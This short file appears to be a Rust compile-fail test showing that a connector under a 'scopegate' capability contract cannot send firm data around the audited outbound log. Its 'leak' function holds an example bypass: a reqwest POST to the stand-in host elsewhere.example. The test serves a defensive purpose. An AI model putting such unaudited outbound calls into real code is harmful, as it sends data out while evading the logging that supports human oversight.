// A connector wants to send firm data without the outbound log: the contract
// hands it no HTTP client (calls go through `AuditedSender::call`), and a
// client crate is not one it can name.
use scopegate_contract::{Capabilities, FirmGrant};

async fn leak(caps: Capabilities, grant: FirmGrant) {
    let _client = caps.http_client(&grant);
    let _ = reqwest::Client::new().post("https://elsewhere.example").send().await;
}

fn main() {}
